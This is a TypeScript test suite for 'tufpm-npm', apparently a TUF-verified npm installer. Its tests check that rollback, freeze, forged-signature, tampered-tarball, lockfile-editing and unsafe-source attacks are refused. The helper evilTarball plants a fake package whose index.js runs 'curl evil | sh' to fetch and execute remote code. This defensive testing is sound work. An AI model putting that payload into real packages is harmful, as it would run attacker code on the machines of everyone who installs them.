import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { buildPackageTarball, tarballFile, targetPathFor } from '@tufpm/registry';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFile } from 'node:fs/promises';
import { createAttackWorld, createExpiredTimestampWorld, createSignerWorld, withMixedRoleFile, withOverLengthTimestamp } from '../src/harness/attack-worlds.js';
import { NpmWorld, type Project } from '../src/harness/npm-world.js';
import { refusedNpm } from '../src/harness/attacks-graph.js';
import { publishClaimedWithOnlineKeys, rollbackTargetsPastClaimInWorld, unclaimAndPublishInBin } from '../src/harness/attacks-signer.js';

// The TUF attack list against tufpm-npm (real Arborist in a child process), one test per attack. Every
// refused install must exit 1 with a coded error and leave package.json, package-lock.json,
// tufpm-lock.json and node_modules exactly as they were.

const evilTarball = (name: string, version: string): Uint8Array =>
  buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });

/** A git repository holding a package (git+file:// needs no network); returns its path. */
async function gitRepository(world: NpmWorld, name: string): Promise<string> {
  const dir = await world.tempDir('git-');
  const { writeFile } = await import('node:fs/promises');
  const { execFileSync } = await import('node:child_process');
  await writeFile(join(dir, 'package.json'), JSON.stringify({ name, version: '1.0.0' }));
  const git = (...args: string[]): void => void execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd: dir, stdio: 'ignore' });
  git('init', '-q');
  git('add', 'package.json');
  git('commit', '-q', '-m', 'v1');
  return dir;
}

describe('tufpm-npm refuses the TUF attacks', () => {
  let world: NpmWorld;
  const maintainers = [NpmWorld.maintainer(), NpmWorld.maintainer()] as const;

  before(async () => {
    world = await createAttackWorld(maintainers);
  });
  after(() => world.close());

  test('rejects a rollback to targets from before a claim on the first install after init', async () => {
    const alice = NpmWorld.maintainer();
    await world.claim('floored', [alice], 1);
    await world.publish('floored', '1.0.0', {}, [alice.signer]);
    const project = await world.project({ dependencies: { floored: '^1.0.0' } });
    const init = await project.tufpmNpm(['init']);
    assert.equal(init.code, 0, init.stderr);
    const lock = JSON.parse((await project.read('tufpm-lock.json'))!) as { claims: Record<string, unknown>; packages: Record<string, unknown> };
    assert.deepEqual(Object.keys(lock.claims), ['floored'], 'init recorded the claim of the project\'s package');
    assert.deepEqual(lock.packages, {}, 'nothing installed or pinned yet');
    const bare = await world.project({ dependencies: { floored: '^1.0.0' } });
    const attack = await rollbackTargetsPastClaimInWorld(world, 'floored', '1.0.1');
    try {
      // The machine that ran init has the TUF cache; a fresh CI machine has only the committed tufpm-lock.json.
      await refusedNpm(project, ['install'], /TUF_ROLLBACK|TUF_PIN_ROLLBACK/, /attack: +rollback/);
      await project.freshMachine();
      const res = await refusedNpm(project, ['install'], /TUF_PIN_ROLLBACK/, /attack: +rollback of targets/);
      assert.match(res.stderr, /role: +targets/);
      // The attack is real: a project that never ran init takes the forged release on its first install.
      const taken = await bare.tufpmNpm(['install']);
      assert.equal(taken.code, 0, taken.stderr);
      assert.match((await bare.read('node_modules/floored/index.js'))!, /curl evil/);
    } finally {
      await attack.restore();
    }
    const genuine = await project.tufpmNpm(['install', 'floored@1.0.0']);
    assert.equal(genuine.code, 0, `the genuine state installs again\n${genuine.stderr}`);
  });

  test('rejects a package claimed at init that is now served from an unclaimed bin (first install)', async () => {
    const alice = NpmWorld.maintainer();
    await world.claim('dropclaim', [alice], 1);
    await world.publish('dropclaim', '1.0.0', {}, [alice.signer]);
    const project = await world.project({ dependencies: { 'dropclaim': '^1.0.0' } });
    assert.equal((await project.tufpmNpm(['init'])).code, 0);
    // The registry (with the offline targets key) drops the claim in a newer targets: above every floor.
    await unclaimAndPublishInBin(world, 'dropclaim', '1.0.1');
    await project.freshMachine();
    const res = await refusedNpm(project, ['install'], /TUF_CLAIM_DROPPED/, /attack: +claim dropped/);
    assert.match(res.stderr, /package: dropclaim@1\.0\.1/);
  });

  test('rejects a package version missing from its role (arbitrary package), also when npm picks it as latest', async () => {
    // Packages of its own: the unsigned version stays in the registry (and makes its packument refused).
    await world.publish('righty', '1.0.0');
    await world.publish('lefty', '1.0.0', { righty: '^1.0.0' });
    await world.publishUnsigned('righty', '1.1.0');
    const project = await world.project();
    const res = await refusedNpm(project, ['install', 'lefty'], /TUF_PACKAGE_NOT_SIGNED/, /attack: +arbitrary package/);
    assert.match(res.stderr, /package: righty@1\.1\.0/);
  });

  test('rejects a tarball signed by the wrong maintainer key', async () => {
    const owner = NpmWorld.maintainer();
    const intruder = NpmWorld.maintainer();
    await world.claim('solo', [owner], 1);
    await world.publish('solo', '1.0.0', {}, [owner.signer]);
    const forged = await world.publishUnsigned('solo', '1.0.1');
    await world.forgeRoleTarget('solo', 'solo', '1.0.1', forged, [intruder.signer]);
    const project = await world.project();
    const res = await refusedNpm(project, ['install', 'solo@1.0.1'], /TUF_THRESHOLD/, /attack: +metadata not signed by enough trusted keys/);
    assert.match(res.stderr, /package: +solo\b/);
  });

  test('rejects a release signed with one compromised key of a 2-of-2 package', async () => {
    const forged = await world.publishUnsigned('guarded', '1.0.1');
    await world.forgeRoleTarget('guarded', 'guarded', '1.0.1', forged, [maintainers[0]!.signer]);
    const project = await world.project();
    await refusedNpm(project, ['install', 'guarded@1.0.1'], /TUF_THRESHOLD/, /package: +guarded\b/);
  });

  test('rejects a release signed with a revoked maintainer key', async () => {
    const [gone, kept] = [NpmWorld.maintainer(), NpmWorld.maintainer()];
    await world.claim('rotated', [gone, kept], 1);
    await world.publish('rotated', '1.0.0', {}, [gone.signer]);
    await world.repo.revokeKey('rotated', gone.key.keyid, { threshold: 1 });
    const forged = await world.publishUnsigned('rotated', '1.0.1');
    await world.forgeRoleTarget('rotated', 'rotated', '1.0.1', forged, [gone.signer]);
    const project = await world.project();
    await refusedNpm(project, ['install', 'rotated@1.0.1'], /TUF_THRESHOLD/, /package: +rotated\b/);
  });

  test('rejects a snapshot rollback on a fresh machine with pins (ci)', async () => {
    const oldTimestamp = await world.readMetadata('timestamp.json');
    await world.publish('fresh', '1.0.0');
    const project = await world.project({ dependencies: { fresh: '^1.0.0', left: '^1.0.0' } });
    await project.write('package.json', JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { fresh: '^1.0.0', left: '^1.0.0', right: '1.0.0' } }));
    const install = await project.tufpmNpm(['install']);
    assert.equal(install.code, 0, install.stderr);
    const current = await world.readMetadata('timestamp.json');
    try {
      await world.writeMetadata('timestamp.json', oldTimestamp);
      await project.freshMachine();
      const res = await refusedNpm(project, ['ci'], /TUF_PIN_ROLLBACK/, /attack: +rollback/);
      assert.match(res.stderr, /role: +timestamp/);
    } finally {
      await world.writeMetadata('timestamp.json', current);
    }
    assert.equal((await project.tufpmNpm(['ci'])).code, 0, 'the real state installs again');
  });

  test('rejects a changed signed hash of a pinned version on a fresh machine (ci)', async () => {
    const { role } = await world.publish('republished', '1.0.0');
    const project = await world.project();
    assert.equal((await project.tufpmNpm(['install', 'republished'])).code, 0);
    // The registry's online keys re-sign other bytes for the same version (an npm version is immutable).
    await world.forgeRoleTarget(role, 'republished', '1.0.0', evilTarball('republished', '1.0.0'), await world.repo.signersFor(role));
    await project.freshMachine();
    const res = await refusedNpm(project, ['ci'], /TUF_PIN_MISMATCH/, /package: republished@1\.0\.0/);
    assert.match(res.stderr, new RegExp(`role: +${role}`));
  });

  test('a ci refused during reify (tampered tarball) puts the previous node_modules back', async () => {
    await world.publish('kept', '1.0.0');
    const project = await world.project();
    assert.equal((await project.tufpmNpm(['install', 'kept'])).code, 0);
    const genuine = await project.read('node_modules/kept/index.js');
    await world.replaceTarball('kept', '1.0.0', evilTarball('kept', '1.0.0'));
    await project.freshMachine();
    await refusedNpm(project, ['ci'], /TUF_TARBALL_MISMATCH/, /package: kept@1\.0\.0/);
    assert.equal(await project.read('node_modules/kept/index.js'), genuine);
  });

  test('rejects mix-and-match: a role file of another version than the snapshot lists', async () => {
    await withMixedRoleFile(world, 'mixed', '1.0.1', async () => {
      const project = await world.project();
      await refusedNpm(project, ['install', 'mixed@1.0.1'], /TUF_VERSION_MISMATCH|TUF_HASH|TUF_LENGTH/, /package: mixed@1\.0\.1/);
    });
  });

  test('rejects over-length metadata (endless data)', async () => {
    await withOverLengthTimestamp(world, async () => {
      const project = await world.project();
      await refusedNpm(project, ['install', 'left'], /TUF_LENGTH/, /attack: +endless data/);
    });
  });

  test('rejects an edited package-lock.json integrity (ci)', async () => {
    const project = await world.project();
    assert.equal((await project.tufpmNpm(['install', 'right@1.0.0'])).code, 0);
    const lock = JSON.parse((await project.read('package-lock.json'))!) as { packages: Record<string, { integrity: string }> };
    lock.packages['node_modules/right']!.integrity = `sha512-${Buffer.alloc(64, 7).toString('base64')}`;
    await project.write('package-lock.json', `${JSON.stringify(lock, null, 2)}\n`);
    const res = await refusedNpm(project, ['ci'], /TUF_LOCK_INTEGRITY/, /attack: +edited package-lock.json integrity/);
    assert.match(res.stderr, /package: right@1\.0\.0/);
    assert.equal((await project.tufpmNpm(['verify'])).code, 1, 'verify reports it too');
  });

  test('rejects extraneous dependencies added to the packument by the registry', async () => {
    await world.publish('helper', '1.0.0');
    await world.publish('host', '1.0.0');
    await world.addPackumentDependency('host', '1.0.0', 'helper', '^1.0.0');
    const project = await world.project();
    const res = await refusedNpm(project, ['install', 'host'], /TUF_EXTRANEOUS_DEPENDENCY/, /attack: +extraneous dependencies/);
    assert.match(res.stderr, /package: host@1\.0\.0/);
    assert.match(res.stderr, /dependencies helper@\^1\.0\.0 is not declared by the signed package/);
  });

  test('rejects a dependency added to package-lock.json by a pull request (ci)', async () => {
    const { tarball } = await world.publish('lock-helper', '1.0.0');
    await world.publish('lock-host', '1.0.0', { right: '1.0.0' });
    const project = await world.project({ dependencies: { 'lock-host': '1.0.0' } });
    const install = await project.tufpmNpm(['install']);
    assert.equal(install.code, 0, install.stderr);
    // The pull request makes lock-host depend on a genuinely signed package, complete with its lock entry.
    type Entry = { version?: string; resolved?: string; integrity?: string; dependencies?: Record<string, string> };
    const lock = JSON.parse((await project.read('package-lock.json'))!) as { packages: Record<string, Entry> };
    lock.packages['node_modules/lock-host']!.dependencies = { right: '1.0.0', 'lock-helper': '^1.0.0' };
    lock.packages['node_modules/lock-helper'] = {
      version: '1.0.0',
      resolved: `${world.url}lock-helper/-/lock-helper-1.0.0.tgz`,
      integrity: `sha512-${createHash('sha512').update(tarball).digest('base64')}`,
    };
    await project.write('package-lock.json', `${JSON.stringify(lock, null, 2)}\n`);
    await project.freshMachine();
    const res = await refusedNpm(project, ['ci'], /TUF_EXTRANEOUS_DEPENDENCY/, /attack: +extraneous dependencies/);
    assert.match(res.stderr, /package: lock-host@1\.0\.0/);
    assert.ok(!(await project.state()).nodeModules.includes('lock-helper'));
    assert.equal((await project.tufpmNpm(['verify'])).code, 1, 'verify reports it too');
  });

  test('a sha1-only package-lock.json integrity does not weaken the check: the signed sha512 is enforced', async () => {
    const { tarball } = await world.publish('legacy', '1.0.0');
    const project = await world.project();
    assert.equal((await project.tufpmNpm(['install', 'legacy'])).code, 0);
    const lock = JSON.parse((await project.read('package-lock.json'))!) as { packages: Record<string, { integrity: string }> };
    lock.packages['node_modules/legacy']!.integrity = `sha1-${createHash('sha1').update(tarball).digest('base64')}`;
    await project.write('package-lock.json', `${JSON.stringify(lock, null, 2)}\n`);
    const verify = await project.tufpmNpm(['verify']);
    assert.equal(verify.code, 0, verify.stderr);
    assert.match(verify.stderr, /legacy@1\.0\.0: package-lock.json does not carry the signed sha512/);
    await world.replaceTarball('legacy', '1.0.0', evilTarball('legacy', '1.0.0'));
    await project.freshMachine();
    await refusedNpm(project, ['ci'], /TUF_TARBALL_MISMATCH/, /package: legacy@1\.0\.0/);
  });

  test('rejects a tampered tarball of an optional dependency (npm would silently skip it)', async () => {
    await world.publish('optional-victim', '1.0.0');
    await world.replaceTarball('optional-victim', '1.0.0', evilTarball('optional-victim', '1.0.0'));
    const project = await world.project({ dependencies: { right: '1.0.0' }, optionalDependencies: { 'optional-victim': '^1.0.0' } });
    await refusedNpm(project, ['install'], /TUF_TARBALL_MISMATCH/, /package: optional-victim@1\.0\.0/);
    assert.ok(!existsSync(join(project.dir, 'node_modules')));
  });

  test('refuses git, file and remote-URL dependencies unless an unsafe flag allows them', async () => {
    const project = await world.project();
    const local = await world.tempDir('local-');
    await project.write(`${local.slice(project.dir.length)}/package.json`, '{}').catch(() => undefined);
    const { writeFile } = await import('node:fs/promises');
    await writeFile(join(local, 'package.json'), JSON.stringify({ name: 'local', version: '1.0.0' }));
    await project.write('package.json', JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { local: `file:${local}` } }));
    await refusedNpm(project, ['install'], /TUF_UNSAFE_SOURCE/, /package: local@1\.0\.0/);
    const allowed = await project.tufpmNpm(['install', '--unsafe-allow-file']);
    assert.equal(allowed.code, 0, allowed.stderr);
    assert.match(allowed.stderr, /unsafe setting in effect: tufpm-unsafe-allow-file/);
    // git (a local repository: no network) and a remote tarball URL (on the loopback registry itself) are
    // refused as sources too, each by its own setting
    const repo = await gitRepository(world, 'gitdep');
    // a tarball URL that is not a registry tarball path (one that is, on any host, is checked as that
    // registry package: sources.ts), served by a server of its own
    const bytes = await readFile(tarballFile(world.registryDir, targetPathFor('right', '1.0.0')));
    const server = createServer((_req, res) => void res.end(bytes));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const remote = `http://127.0.0.1:${(server.address() as AddressInfo).port}/downloads/right.tgz`;
      for (const [dep, spec, flag] of [['gitdep', `git+file://${repo}`, 'git'], ['right', remote, 'remote']] as const) {
        const other = await world.project({ dependencies: { [dep]: spec } });
        const res = await refusedNpm(other, ['install'], /TUF_UNSAFE_SOURCE/, new RegExp(`package: +${dep}\\b`));
        assert.match(res.stderr, new RegExp(`unsafe-allow-${flag}`), `names the ${flag} setting`);
      }
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });
});

describe('tufpm-npm refuses an expired timestamp (freeze)', () => {
  let world: NpmWorld;
  before(async () => {
    world = await createExpiredTimestampWorld();
  });
  after(() => world.close());

  test('rejects an expired timestamp (freeze attack)', async () => {
    const project = await world.project();
    const res = await refusedNpm(project, ['install', 'left'], /TUF_EXPIRED/, /attack: +freeze/);
    assert.match(res.stderr, /timestamp v\d+ expired/, 'the timestamp expiry answered');
  });
});

describe('tufpm-npm: who signs a package (maintainers offline, registry online)', () => {
  let world: NpmWorld;
  const [alice, bob] = [NpmWorld.maintainer(), NpmWorld.maintainer()];

  before(async () => {
    world = await createSignerWorld(alice, bob);
  });
  after(() => world.close());

  const pinsOf = async (project: Project): Promise<Record<string, { role: string; maintainerSigned: boolean }>> =>
    (JSON.parse((await project.read('tufpm-lock.json'))!) as { packages: Record<string, { role: string; maintainerSigned: boolean }> }).packages;

  test('rejects a new version of a claimed package published with every online key (registry compromise)', async () => {
    await publishClaimedWithOnlineKeys(world, 'seized', '1.0.1');
    const project = await world.project();
    await refusedNpm(project, ['install', 'seized'], /TUF_PACKAGE_NOT_SIGNED/, /attack: +arbitrary package/);
  });

  test('rejects a package maintainer-signed in the pins that is now registry-signed (downgrade)', async () => {
    const project = await world.project();
    const first = await project.tufpmNpm(['install', 'downgraded@1.0.0']);
    assert.equal(first.code, 0, first.stderr);
    assert.equal((await pinsOf(project))['downgraded@1.0.0']!.maintainerSigned, true);
    await unclaimAndPublishInBin(world, 'downgraded', '1.0.1');
    const res = await refusedNpm(project, ['install', 'downgraded@1.0.1'], /TUF_SIGNER_DOWNGRADE/, /attack: +downgrade from maintainer signing/);
    assert.match(res.stderr, /downgraded@1\.0\.1/);
  });

  test('policy requireMaintainerSigned refuses a registry-signed package', async () => {
    const project = await world.project();
    await refusedNpm(project, ['install', 'right', '--require-maintainer-signed', '*'], /TUF_NOT_MAINTAINER_SIGNED/, /attack: +package not signed by its maintainers/);
    // The same policy from .npmrc, naming packages: a claimed one passes.
    await project.write('.npmrc', `registry=${world.url}\ntufpm-require-maintainer-signed[]=owned\ntufpm-require-maintainer-signed[]=right\n`);
    const ok = await project.tufpmNpm(['install', 'owned']);
    assert.equal(ok.code, 0, `a claimed package passes the policy\n${ok.stderr}`);
    await refusedNpm(project, ['install', 'right'], /TUF_NOT_MAINTAINER_SIGNED/, /right@1\.0\.0 is signed by the registry/);
  });

  test('policy minimum threshold refuses a 1-of-1 claimed package when 2 signatures are required', async () => {
    const project = await world.project();
    await project.write('.npmrc', `registry=${world.url}\ntufpm-require-maintainer-signed=*\ntufpm-minimum-threshold=2\n`);
    await refusedNpm(project, ['install', 'owned'], /TUF_NOT_MAINTAINER_SIGNED/, /owned@1\.0\.0: its role owned needs 1 signature\(s\), policy requires at least 2/);
    const ok = await project.tufpmNpm(['install', 'pair']);
    assert.equal(ok.code, 0, `a 2-of-2 package passes\n${ok.stderr}`);
    const lower = await project.tufpmNpm(['install', 'owned', '--minimum-threshold', '1']);
    assert.equal(lower.code, 0, `the flag overrides .npmrc\n${lower.stderr}`);
  });

  test('claim then install: a package claimed after it was first installed from its bin is pinned maintainer-signed', async () => {
    await world.publish('late', '1.0.0');
    const project = await world.project();
    const first = await project.tufpmNpm(['install', 'late', 'right']);
    assert.equal(first.code, 0, first.stderr);
    assert.match((await pinsOf(project))['late@1.0.0']!.role, /^unclaimed-/);
    const before = await project.tufpmNpm(['status']);
    assert.match(before.stdout, /packages: +2 in package-lock\.json: 0 maintainer-signed, 2 registry-signed/);
    await world.claim('late', [alice], 1);
    const again = await project.tufpmNpm(['install']);
    assert.equal(again.code, 0, again.stderr);
    assert.deepEqual((await pinsOf(project))['late@1.0.0'], { ...(await pinsOf(project))['late@1.0.0'], role: 'late', maintainerSigned: true });
    const status = JSON.parse((await project.tufpmNpm(['status', '--json'])).stdout) as { packages: unknown };
    assert.deepEqual(status.packages, { total: 2, maintainerSigned: 1, registrySigned: 1, failed: [] });
  });
});
